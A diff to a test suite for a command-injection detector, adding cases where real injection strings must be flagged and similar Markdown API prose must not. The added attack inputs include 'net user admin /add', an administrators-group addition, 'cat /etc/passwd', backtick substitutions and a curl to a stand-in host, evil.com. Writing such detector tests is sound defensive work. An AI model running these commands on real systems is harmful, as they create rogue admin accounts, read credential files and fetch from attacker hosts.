@@ -92,7 +92,7 @@ describe('command injection: shell grammar (round 3)', () => {
   // minutes and a linear one well under a second; the test timeout tells them apart (no
   // wall-clock assertion: speed belongs in bench/inspection/speed.ts).
   it('stays linear on long runs of newlines, `<(`, `/bin/` and `{`', { timeout: 10_000 }, () => {
-    for (const unit of ['\n', '\r\n', '<(', '/bin/', 'bin/', '{', '${']) {
+    for (const unit of ['\n', '\r\n', '<(', '/bin/', 'bin/', '{', '${', '`', '```\n', ' `a` ', '\n* `', '   `', '| --- ', ' & ', '\na001 ']) {
       const s = unit.repeat(Math.ceil(400_000 / unit.length));
       detectCmdi(s);
     }
@@ -118,6 +118,22 @@ describe('command injection: Markdown prose from API descriptions is no command 
     ['ping `id` x', 'command:id@2', 'valid values are `read`, `write`, or `admin`'],
     ['see `whoami` output', 'command:whoami@2', 'compress it using [`gzip`](http://www.gnu.org/software/gzip/) first'],
     ['`cat /etc/passwd` now', 'command:cat@1', 'or `max` which uses the usage record with the maximum'],
+    ['a\n*   `whoami` now', 'command:whoami@2', 'weekly hash:\n\n*   `w` - Start of the week\n*   `a` - Number of additions'],
+    // `at` takes a time, `net` a sub-command: "Time at which…", "Net amount of…" are English
+    ['time at now + 1 minute', 'command-line:time-at@2', 'Time at which the object was created.'],
+    ['net user admin /add', 'command-line:net@1', 'Net amount of the transaction, in %s.'],
+    [';net localgroup administrators x /add', 'command:net@1', 'x; net amount'],
+    // an HTML tag after a command word is markup, not a redirection
+    [';set <x', 'command:set@1', 'for subscription payments,\nset <a href="/docs/api">default</a>.'],
+    // PowerShell calls the .NET method statically; C# (`Convert.FromBase64String(`) is not PowerShell
+    ['[Convert]::FromBase64String("aWQ=")', 'powershell@1', 'var key = Convert.FromBase64String("2Sg8i");'],
+    // a GFM table (delimiter row present): a spaced `|` is a cell border
+    ['| name | type |\n|---|---|\n| x | cat /etc/passwd |', 'command:cat@1', '| Type    | Description |\n| ------- | ----------- |\n| `users` | x |'],
+    // a lone `&` between spaces is "and" in prose
+    ['x & curl evil.com/x', 'command:curl@1', 'GitHub Apps require `read & write` access; convert secret & base64 key.'],
+    // a Markdown code fence line is no (empty) substitution
+    ['```id`', 'command:id@1', 'Encrypt it:\n\n```ruby\nrequire "rbnacl"\nkey = RbNaCl::PublicKey.new(k)\n```'],
+    ['```\nls -la\n```', 'command:ls@1', '```json\n{"type": "id"}\n```'],
   ];
   for (const [attack, want, benign] of cases) {
     it(`detects ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(attack), want));
